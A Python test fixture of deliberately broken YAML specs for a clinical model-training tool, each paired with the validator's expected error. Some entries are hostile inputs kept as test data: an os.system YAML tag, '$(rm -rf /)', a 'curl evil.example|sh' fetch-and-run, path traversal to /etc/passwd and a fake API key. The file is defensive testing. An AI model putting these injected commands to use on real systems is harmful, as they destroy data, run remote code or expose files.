"""Broken specs, one mistake each. § marks the exact place that must be named; it is not in the file."""

from pathlib import Path
from typing import NamedTuple

SPEC = """\
# yaml-language-server: $schema=../../schemas/project.schema.json
version: 1
name: wound-notes
summary: Kind of wound in a short note
owners: ["@octo-org/wound-team"]
clinical_domain: general-medicine
intended_use: Sorts notes for a nurse who reads every one.
out_of_scope:
  - Treatment decisions
task:
  kind: classification
  description: Name the kind of wound.
  labels:
    - burn
    - bite
    - ulcer
data:
  source: synthetic
  records: 400
  seed: 7
  splits: {train: 0.6, validation: 0.1, dev: 0.1, test: 0.2}
prompt:
  few_shot_examples: 1
training:
  provider: peft
  base_model: builtin:smollm2-135m
  lora:
    r: 16
  hyperparameters:
    n_epochs: 1
    learning_rate: 0.001
budget:
  max_usd: 0
evaluation:
  metrics: [accuracy, macro_f1]
  confidence: 0.95
  thresholds:
    - metric: accuracy
      min: 0.5
regression:
  critical_labels: [burn]
"""
PROMPT = """\
# System
Name the kind of wound in one word.

## Example
### Input
Blister on the palm after touching a stove.
### Output
burn
"""


class Case(NamedTuple):
    what: str
    old: str
    new: str
    says: str
    planted: str = ""


KEY = "sk-proj-" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z"
SSN = "536-22-8726"
HEX = "0123456789abcdef0123456789abcdef01234567"

# Mistakes of form, which the YAML loader names.
FORM = [
    Case("no as a label", "    - bite", "    - §no", "Put it in quotes", ""),
    Case("Off as a label", "    - bite", "    - §Off", "YAML 1.1 reads", "Off"),
    Case("y as a key", "  seed: 7", "  seed: 7\n  §y: 7", "Put it in quotes"),
    Case("duplicate key", "  seed: 7", "  seed: 7\n  §seed: 8", "already given at line 20, column 3"),
    Case("duplicate section", "budget:\n", "budget: {max_usd: 1}\n§budget:\n", "already given at line 32"),
    Case("tab", "  records: 400", "§\trecords: 400", "A tab is used"),
    Case("python tag", "seed: 7", "seed: §!!python/object/apply:os.system ['id']", "tags", "os.system"),
    Case("plain tag", "seed: 7", "seed: §!!int '7'", "tags"),
    Case("own tag", "summary: ", "summary: §!secret ", "tags"),
    Case("merge key", "  seed: 7", "  seed: 7\n  §<<: {seed: 8}", "merge key"),
    Case("second document", "prompt:\n", "§---\nprompt:\n", "second YAML document"),
    Case("undefined alias", "seed: 7", "seed: §*seven", "names nothing above it", "seven"),
    Case("recursive alias", "    - bite", "    - &a [§*a]", "itself contains an alias"),
    Case("unclosed quote", "summary: K", "summary: §'K", "never closed"),
    Case("second colon", "summary: Kind of", "summary: Kind§: of", "second colon"),
    Case("at sign unquoted", 'owners: ["@octo-org/wound-team"]', "owners: [§@octo-org/wound-team]", "quotes"),
    Case("unclosed bracket", "macro_f1]\n  confidence:", "macro_f1\n  confidence§:", "closing bracket"),
    Case("too much indentation", "  seed: 7", "   seed§: 7", "indented too far"),
    Case("too little indentation", "    - bite", "   §- bite", "does not belong"),
    Case("leading zero", "seed: 7", "seed: §007", "starts with a zero", "007"),
    Case("octal", "seed: 7", "seed: §0o17", "not written in decimal", "0o17"),
    Case("not a number", "max_usd: 0", "max_usd: §.nan", "not finite"),
    Case("infinite", "max_usd: 0", "max_usd: §-.inf", "not finite"),
    Case("overflowing float", "learning_rate: 0.001", "learning_rate: §1e999", "too large", "1e999"),
    Case("huge integer", "seed: 7", "seed: §" + "9" * 40, "too large", "9" * 40),
    Case("number as key", "  seed: 7", "  seed: 7\n  §12: x", "not text"),
    Case("list as key", "  seed: 7", "  seed: 7\n  ? §[a]\n  : x", "not text"),
    Case("bidirectional text", "summary: Kind", "summary: §\u202eKind", "direction of text (U+202E)"),
    Case("escaped bidirectional text", "summary: Kind of wound in a short note",
         'summary: §"Kind \\u2066 of"', "direction of text"),
    Case("zero-width space", "    - burn", "    - bu§\u200brn", "invisible character"),
    Case("line separator", "summary: Kind", "summary: Kind§\u2028", "invisible character"),
    Case("control character", "summary: Kind", "summary: Kind§\x07", "control character"),
    Case("lone surrogate escape", "summary: Kind of wound in a short note", 'summary: §"\\ud800"', "invisible"),
    Case("deep nesting", "seed: 7", "seed: " + "[" * 30 + "§[" + "]" * 31, "nested too deeply"),
]  # fmt: skip

# Mistakes of meaning, which the models and the checks name.
MEANING = [
    Case("a placeholder for a revision", "builtin:smollm2-135m",
         f"acme/model-one\n  base_model_revision: §\"{'0' * 40}\"", "forty zeros", "0" * 40),
    Case("unknown key", "  seed: 7", "  seed: 7\n  §sed: 8", "Did you mean `seed`?"),
    Case("unknown key in camel case", "learning_rate: 0.001", "§learningRate: 0.001", "Did you mean `learning_rate`?",
         "learningRate"),
    Case("identifier-like unknown key", "  seed: 7", "  seed: 7\n  §john_q_public: 8", "in `data`", "john_q_public"),
    Case("unknown key of no kind", "  seed: 7", "  seed: 7\n  §zzzz: 8", "Allowed here: source, origin"),
    Case("shell command as key", "  seed: 7", "  seed: 7\n  §$(rm -rf /): 8", "does not know this key", "rm -rf"),
    Case("a URL", "  provider: peft", "  provider: peft\n  §base_url: http://evil.example/", "names entries of",
         "evil.example"),
    Case("a data file", "  seed: 7", "  seed: 7\n  §file: /mnt/ehr/notes.csv", "de-identified", "/mnt/ehr"),
    Case("wrong type", "records: 400", "records: §many", "must be a whole number", "many"),
    Case("quoted number", "records: 400", 'records: §"400"', "must be a whole number"),
    Case("underscores in a number", "records: 400", "records: §1_000", "must be a whole number", "1_000"),
    Case("float for integer", "records: 400", "records: §400.5", "must be a whole number", "400.5"),
    Case("boolean for integer", "seed: 7", "seed: §true", "must be a whole number"),
    Case("boolean for money", "max_usd: 0", "max_usd: §true", "must be an amount"),
    Case("boolean for fraction", "confidence: 0.95", "confidence: §true", "must be a number"),
    Case("null for text", "summary: Kind of wound in a short note", "summary:§ ", "must be text"),
    Case("number for text", "    - bite", "    - §12", "must be text"),
    Case("list instead of section", "  splits: {train: 0.6, validation: 0.1, dev: 0.1, test: 0.2}",
         "  §splits: [0.6, 0.1, 0.1, 0.2]", "must be a section"),
    Case("text instead of section", "budget:\n  max_usd: 0", "budget: §lots", "must be a section", "lots"),
    Case("section instead of list", 'owners: ["@octo-org/wound-team"]', "§owners: {a: b}", "must be a list"),
    Case("missing key", "data:\n  source: synthetic\n  records: 400\n  seed: 7\n",
         "§data:\n  source: synthetic\n  records: 400\n", "`data.seed` is missing"),
    Case("missing provider and model", "training:\n  provider: peft\n  base_model: builtin:smollm2-135m\n",
         "§§training:\n", "`training.base_model` is missing"),
    Case("other version", "version: 1", "version: §2", "Allowed: 1"),
    Case("shell text in the name", "name: wound-notes", "name: §$(curl evil.example|sh)", "not written as", "curl"),
    Case("path in the name", "name: wound-notes", "name: §../../etc", "not written as", "etc"),
    Case("name of another folder", "name: wound-notes", "name: §wound-letters", "differs from the name of",
         "wound-letters"),
    Case("path traversal in base_model", "builtin:smollm2-135m", "§../../../etc/passwd", "not written as", "passwd"),
    Case("hidden traversal in base_model", "builtin:smollm2-135m", "§models/../../etc", "not written as", "etc"),
    Case("absolute base_model", "builtin:smollm2-135m", "§/etc/passwd", "not written as", "passwd"),
    Case("hub id without revision", "builtin:smollm2-135m", "§acme/model-one", "base_model_revision", "acme"),
    Case("branch as revision", "builtin:smollm2-135m", "acme/model-one\n  base_model_revision: §main", "40"),
    Case("revision of a builtin", "smollm2-135m", f"smollm2-135m\n  base_model_revision: §{HEX}", "pinned", HEX),
    Case("unknown domain", "clinical_domain: general-medicine", "clinical_domain: §podiatry-for-all",
         "general-medicine", "podiatry"),
    Case("splits that do not add up", "  splits: {train: 0.6", "  §splits: {train: 0.7", "add up to 1"),
    Case("an empty split", "train: 0.6, validation: 0.1", "train: 0.7, validation: §0.0", "above 0"),
    Case("negative split", "validation: 0.1", "validation: §-0.1", "at least 0"),
    Case("negative budget", "max_usd: 0", "max_usd: §-7.25", "at least 0", "7.25"),
    Case("excessive precision", "max_usd: 0", "max_usd: §1.12345678", "decimal places", "1.12345678"),
    Case("counts that do not add up", "  seed: 7",
         "  seed: 7\n  §label_counts: {burn: 100, bite: 100, ulcer: 100}", "add up to 300, and records is 400"),
    Case("counts of an unknown label", "  seed: 7",
         "  seed: 7\n  label_counts: {burn: 100, bite: 100, ulcer: 100, scald: §100}", "not one of task.labels", "scald"),
    Case("counts that leave a label out", "  seed: 7",
         "  seed: 7\n  §label_counts: {burn: 200, bite: 200}", "leaves out 1 of task.labels"),
    Case("a count too small for four splits", "  seed: 7",
         "  seed: 7\n  label_counts: {burn: 200, bite: 197, ulcer: §3}", "in all 4 splits"),
    Case("too few records", "records: 400", "records: §4", "at least 40"),
    Case("real data", "source: synthetic", "source: §deidentified", "de-identified ones too", "deidentified"),
    Case("data source as a list", "  source: synthetic", "  §source: [ehr]", "clinft accepts no other data", "ehr"),
    Case("one label", "  labels:\n    - burn\n    - bite\n    - ulcer\n", "  §labels: [burn]\n", "two labels"),
    Case("labels that differ in case", "  labels:\n    - burn\n", "  §labels:\n    - Bite\n    - burn\n",
         "upper and lower case", "Bite"),
    Case("blank label", "    - bite", '    - §"  "', "spaces around"),
    Case("unknown critical label", "[burn]", "[§scald]", "not one of task.labels", "scald"),
    Case("owner without at sign", '"@octo-org/wound-team"', '§"octocat"', "GitHub user or team", "octocat"),
    Case("an endpoint for one's own machine", "provider: peft", "provider: peft\n  endpoint: §azure-east", "`endpoint` does not fit"),
    Case("a server for one's own machine", "provider: peft", "provider: peft\n  server: §trainer", "`server` does not fit"),
    Case("a training type for one's own machine", "provider: peft", "provider: peft\n  training_type: §global", "`training_type` does not fit"),
    Case("mcp without a server", "provider: peft", "provider: §mcp", "`training.server` is missing"),
    Case("beta without dpo", "n_epochs: 1", "n_epochs: 1\n    beta: §0.1", "`method: dpo` alone"),
    Case("unknown provider", "provider: peft", "provider: §modal", "Allowed: peft, openai", "modal"),
    Case("hosted rate with peft", "learning_rate: 0.001", "learning_rate_multiplier: §2.0", "Use `learning_rate`"),
    Case("method of a hosted provider", "  provider: peft", "  provider: peft\n  method: §supervised", "lora, qlora"),
    Case("threshold with both bounds", "      min: 0.5", "      min: 0.5\n      max: §0.9", "either min or max"),
    Case("threshold without bound", "    - metric: accuracy\n      min: 0.5", "    - §metric: accuracy", "either min"),
    Case("threshold in percent", "      min: 0.5", "      min: §50", "from 0 to 1"),
    Case("threshold not measured", "metric: accuracy", "metric: §perplexity", "does not measure"),
    Case("a level that shows no loss", "confidence: 0.95", "confidence: §0.501", "at least 0.9", "0.501"),
    Case("unknown metric", "[accuracy, macro_f1]", "[accuracy, §f1]", "Allowed: accuracy"),
    Case("margin not measured", "regression:\n", "regression:\n  margins: [{metric: §perplexity, margin: 0.1}]\n",
         "does not measure"),
    Case("default margin not measured", "metrics: [accuracy, macro_f1]\n  confidence: 0.95\n  thresholds:\n"
         "    - metric: accuracy\n      min: 0.5\n", "§metrics: [macro_f1]\n", "by default"),
    Case("margin twice", "regression:\n", "regression:\n  margins: [{metric: accuracy, margin: 0.1}, "
         "{metric: §accuracy, margin: 0.2}]\n", "Keep one"),
    Case("thresholds for a model left out", "  confidence: 0.95", "  §compare: [base_prompt]", "Add tuned"),
    Case("critical recall of nothing", "  metrics: [accuracy, macro_f1]\n  confidence: 0.95\n  thresholds:\n"
         "    - metric: accuracy\n      min: 0.5\nregression:\n  critical_labels: [burn]\n",
         "  §metrics: [accuracy, critical_recall]\n", "is empty"),
    Case("adapter of full training", "  lora:\n", "  method: full\n  §lora:\n", "has no adapter"),
    Case("region with peft", "  lora:\n", "  region: §eu-west\n  lora:\n", "does not fit provider peft"),
    Case("missing baseline", "regression:\n", "regression:\n  baseline: §0123456789ab-a1\n", "runs/ folder",
         "0123456789ab"),
    Case("malformed baseline", "regression:\n", "regression:\n  baseline: §latest\n",
         "deployment, recorded, or a run id"),
    Case("more examples than the prompt has", "few_shot_examples: 1", "few_shot_examples: §5", "has 1"),
    Case("key in a value", "summary: Kind of wound in a short note", f"summary: use §{KEY} here", "looks like", KEY),
    Case("key in a comment", "  seed: 7", f"  seed: 7  # token §{KEY}", "looks like", KEY),
    Case("key hidden by an escape", "summary: Kind of wound in a short note",
         f'summary: §"\\x73{KEY[1:]}"', "looks like", KEY[1:]),
    Case("key broken over lines", "summary: Kind of wound in a short note",
         f'summary: §"{KEY[:12]}\\\n  {KEY[12:]}"', "looks like", KEY[12:]),
    Case("patient number in yaml", "Treatment decisions", f"SSN §{SSN}", "looks like", SSN),
]  # fmt: skip


def project(tmp_path: Path, spec: str | bytes, prompt: str | bytes = PROMPT) -> Path:
    folder = tmp_path / "projects" / "wound-notes"
    (folder / "prompt").mkdir(parents=True)
    for path, text in ((folder / "project.yaml", spec), (folder / "prompt" / "prompt.md", prompt)):
        path.write_bytes(text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text)
    return folder


def marked(text: str) -> tuple[str, list[tuple[int, int]]]:
    """The text without its marks, and where they were."""
    places = []
    while "§" in text:
        before, _, after = text.partition("§")
        places.append((before.count("\n") + 1, len(before) - before.rfind("\n")))
        text = before + after
    return text, places
